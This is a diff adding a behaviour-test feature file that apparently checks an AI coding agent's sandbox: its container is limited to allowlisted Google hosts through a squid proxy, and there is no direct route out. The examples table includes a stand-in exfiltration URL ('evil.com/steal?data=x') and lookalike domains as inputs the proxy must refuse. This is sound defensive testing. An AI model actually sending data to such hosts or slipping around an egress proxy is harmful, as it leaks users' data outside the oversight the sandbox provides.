@@ -1,0 +1,71 @@
+@task-4 @threat-exfiltration
+Feature: The agent reaches only allowlisted hosts, and only through the proxy (task 4)
+
+  Anything the agent can read, it can send to a server that will keep it. So the agent's container sits on an
+  internal network with no route out; its only way out is a per-session squid proxy that allows a list of
+  domains (by default the Google / Vertex AI hosts Claude Code on Vertex needs). These scenarios run against
+  real containers; "the internet" is a fixture server on an isolated network answering for every name used.
+
+  Background:
+    Given a sandbox with the default allowlist
+
+  Rule: allowlisted hosts are reachable through the proxy, over HTTP and HTTPS
+
+    Scenario: an allowlisted host answers over plain HTTP
+      When the agent fetches "http://oauth2.googleapis.com/token"
+      Then the fetch succeeds with the page of "oauth2.googleapis.com"
+      And the proxy's access log shows "oauth2.googleapis.com" allowed
+
+    Scenario: an allowlisted host answers over HTTPS through a CONNECT tunnel
+      When the agent fetches "https://oauth2.googleapis.com/token"
+      Then the fetch succeeds with the page of "oauth2.googleapis.com"
+
+  Rule: every other host is refused by the proxy with a 403 that names it
+
+    Scenario Outline: <url> is refused by the proxy while an allowlisted host works
+      When the agent fetches "<url>"
+      Then the proxy refuses it with 403 naming "<host>"
+      And the proxy's access log shows "<host>" denied
+      But the agent can still fetch "https://oauth2.googleapis.com/control"
+
+      Examples:
+        | url                                | host                    |
+        | http://evil.com/steal?data=x       | evil.com                |
+        | https://evil.com/                  | evil.com                |
+        | http://example.com/                | example.com             |
+        | https://example.com/               | example.com             |
+        | http://googleapis.com.evil.com/    | googleapis.com.evil.com |
+        | https://evilgoogleapis.com/        | evilgoogleapis.com      |
+
+    Scenario: an allowlisted host on a port other than 443 cannot be tunnelled to
+      When the agent fetches "https://oauth2.googleapis.com:8443/"
+      Then the proxy refuses it with 403 naming "oauth2.googleapis.com"
+      But the agent can still fetch "https://oauth2.googleapis.com/control"
+
+    Scenario: a raw IP destination is refused, even the address of an allowlisted host
+      When the agent fetches the test internet by its IP address through the proxy
+      Then the proxy refuses it with 403
+      But the agent can still fetch "http://oauth2.googleapis.com/control"
+
+    Scenario: squid's own manager pages are refused
+      When the agent asks the proxy for its manager page "/squid-internal-mgr/info"
+      Then the proxy refuses it with 403
+      But the agent can still fetch "http://oauth2.googleapis.com/control"
+
+  Rule: there is no route around the proxy
+
+    Scenario: without the proxy an outside name cannot even be resolved
+      When the agent fetches "http://oauth2.googleapis.com/" bypassing the proxy
+      Then the fetch fails because the name cannot be resolved
+      And the agent cannot resolve "oauth2.googleapis.com" or "evil.com" itself
+      But the agent can still fetch "http://oauth2.googleapis.com/control"
+
+    Scenario: without the proxy the address of the test internet is unreachable
+      When the agent connects directly to the test internet's IP address
+      Then the connection fails because there is no route
+      But the agent can still fetch "http://oauth2.googleapis.com/control"
+
+    Scenario: the engine reports the agent on an internal network only, and the proxy as its only way out
+      Then the engine reports the agent attached to exactly one network, which is internal
+      And the engine reports the proxy attached to that network and to the egress network
+      And the agent's proxy settings point at the proxy's address on that network
